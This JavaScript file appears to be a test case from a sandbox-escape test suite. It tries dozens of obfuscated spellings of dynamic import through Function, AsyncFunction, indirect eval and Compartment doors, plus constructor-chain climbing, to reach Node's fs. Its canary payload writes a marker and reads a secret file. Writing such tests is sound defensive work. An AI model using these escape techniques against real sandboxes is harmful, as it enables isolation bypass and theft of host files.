// attack: the dynamic-import call smuggled through every code-from-string door (Function, AsyncFunction, indirect eval, a child Compartment) in every spelling a source filter might miss: comments and newlines/U+2028/tabs between `import` and `(`, `//` and HTML-like (Annex B) line comments, unicode-escaped keywords (\u0069mport, i\u006dport), template-literal and computed specifiers, import attributes, import.meta, HTML-like close comments at a line start
// source: CVE-2021-23449 (vm2 dynamic import); Endo SES transforms.js rejectImportExpressions / rejectHtmlComments (SES_IMPORT_REJECTED, SES_HTML_COMMENT_REJECTED); ECMA-262 Annex B.1.1 HTML-like comments
// needs: none
// category: escape
// expect: blocked - every spelling is rejected (SyntaxError) or finds no module loader; no node builtin is ever loaded
const ID = '116-import-eval-spellings';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const I = 'imp' + 'ort';
const spec = JSON.stringify('node:fs');
const spellings = [
  ['plain', I + '(' + spec + ')'],
  ['block comment gap', I + ' /* gap */ (' + spec + ')'],
  ['newline gap', I + '\n(' + spec + ')'],
  ['U+2028 gap', I + '\u2028(' + spec + ')'],
  ['tab gap', I + '\t(' + spec + ')'],
  ['line comment gap', I + '//x\n(' + spec + ')'],
  ['HTML open comment gap', I + '<' + '!--x\n(' + spec + ')'],
  ['HTML close comment line', '0\n--' + '> x\n,' + I + '(' + spec + ')'],
  ['unicode escape \\u0069mport', '\\u0069mport(' + spec + ')'],
  ['unicode escape i\\u006dport', 'i\\u006d' + 'port(' + spec + ')'],
  ['template specifier', I + '(`node:fs`)'],
  ['computed specifier', I + '("node" + ":" + "fs")'],
  ['import attributes', I + '(' + spec + ', { with: { type: "json" } })'],
  ['import.meta', I + '.meta'],
  ['parenthesised callee', '(' + I + ')(' + spec + ')'],
];
const doors = [
  ['Function', (src) => Function('return ' + src)()],
  ['AsyncFunction', (src) => (async function () {}).constructor('return await ' + src)()],
  ['indirect eval', (src) => (0, eval)(src)],
];
if (typeof Compartment === 'function') doors.push(['child Compartment', (src) => new Compartment().evaluate(src)]);
for (const [door, run] of doors) {
  for (const [label, src] of spellings) {
    const r = await attempt(door + ' / ' + label, async () => {
      const v = await run(src);
      if (v && typeof v === 'object' && (v.default || v.readFileSync)) return pwnFs(v.default && v.default.readFileSync ? v.default : v);
      return undefined;
    });
    if (r) return r;
  }
}
return { blocked: tried, untold };
